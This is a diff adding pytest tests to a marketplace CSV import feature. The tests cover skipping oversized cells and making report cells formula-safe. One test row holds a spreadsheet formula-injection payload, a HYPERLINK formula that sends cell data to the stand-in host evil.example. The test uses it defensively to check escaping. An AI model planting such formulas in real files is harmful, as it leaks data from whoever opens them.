@@ -226,3 +226,55 @@ async def test_template_download(client: Any, sessionmaker: async_sessionmaker[A
 async def test_members_without_the_role_cannot_import(client: Any) -> None:
     await signup(client, "mallory")
     assert (await client.get("/market/admin/import")).status_code == 403
+
+
+async def test_a_huge_cell_skips_its_row_not_the_import(client: Any, sessionmaker: async_sessionmaker[AsyncSession],
+                                                      settings: Settings) -> None:
+    """Python's csv refuses a cell over 131,072 characters with csv.Error: that row is skipped with
+    a reason, the rows around it are kept, and other CSV readers keep the default limit."""
+    await make_producer(client, sessionmaker)
+    limit = csv.field_size_limit()
+    rows = [
+        ["fig-jam", "Fig jam", "", "FIG-1", "", "3.00", "", "", "", "", "", "draft"],
+        ["big-jam", "Big jam", "x" * 200_000, "BIG-1", "", "3.00", "", "", "", "", "", "draft"],
+        ["big-jam", "Big jam", "y" * (csv_import.MAX_FIELD + 1), "BIG-2", "", "3.00", "", "", "", "", "", "draft"],
+        ["fig-jam", "", "", "FIG-2", "size=L", "4.00", "", "", "", "", "", "draft"],
+    ]
+    response = await upload(client, csv_text(rows))
+    assert response.status_code == 303
+    await run_worker_until_idle(sessionmaker, settings)
+    done = (await client.get(response.headers["location"] + "/progress", headers={"Accept": "application/json"})).json()
+    assert done["state"] == "done" and (done["created"], done["skipped"]) == (2, 2)
+    report = list(csv.reader(io.StringIO((await client.get(response.headers["location"] + "/report.csv")).text)))[1:]
+    skipped = [line for line in report if line[2] == "skipped"]
+    assert [line[0] for line in skipped] == ["3", "4"]
+    assert all(f"longer than {csv_import.MAX_FIELD} characters" in line[3] for line in skipped)
+    assert csv.field_size_limit() == limit
+    async with sessionmaker() as session:
+        assert sorted((await session.scalars(select(Variant.sku))).all()) == ["FIG-1", "FIG-2"]
+
+
+async def test_report_cells_are_formula_safe_and_say_nothing_of_owners(
+        client: Any, sessionmaker: async_sessionmaker[AsyncSession], settings: Settings) -> None:
+    await make_producer(client, sessionmaker, "alice")
+    await upload(client, csv_text([["honey", "Honey", "", "HONEY-1", "", "6.00", "", "", "3", "", "", "draft"]]))
+    await run_worker_until_idle(sessionmaker, settings)
+    client.cookies.clear()
+    await make_producer(client, sessionmaker, "bob")
+    theirs = await upload(client, csv_text([
+        ["my-honey", "Honey", "", "HONEY-1", "", "1.00", "", "", "", "", "", "draft"],  # alice's SKU
+        ["honey", "Honey", "", "HONEY-9", "", "1.00", "", "", "", "", "", "draft"],  # alice's slug
+        ["pear", "Pear", "", '=HYPERLINK("http://evil.example/?"&A1,"x")', "", "1.00", "", "", "", "", "", "draft"],
+        ["plum", "Plum", "", "@SUM(1+1)", "", "1.00", "", "", "", "", "", "draft"],
+    ]))
+    await run_worker_until_idle(sessionmaker, settings)
+    text = (await client.get(theirs.headers["location"] + "/report.csv")).text
+    report = list(csv.reader(io.StringIO(text)))[1:]
+    assert len(report) == 4
+    for line in report:
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in line), line
+    assert any(line[1].startswith("'=HYPERLINK") for line in report)
+    assert any(line[1] == "'@SUM(1+1)" for line in report)
+    reasons = {line[1]: line[3] for line in report}
+    assert reasons["HONEY-1"] == "SKU HONEY-1 is already taken"
+    assert "another producer" not in text and "already taken" in reasons["HONEY-9"]
